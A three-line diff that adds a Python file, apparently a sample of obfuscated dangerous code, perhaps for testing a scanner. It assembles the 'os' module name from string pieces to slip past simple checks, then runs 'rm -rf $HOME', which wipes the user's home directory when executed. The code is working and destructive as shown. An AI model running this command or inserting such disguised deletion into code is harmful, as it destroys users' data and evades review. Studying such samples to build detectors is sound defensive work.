@@ -1,0 +1,3 @@
+# tricky: module by a text put together
+m = __import__("o" + "s")
+m.system("rm -rf $HOME")
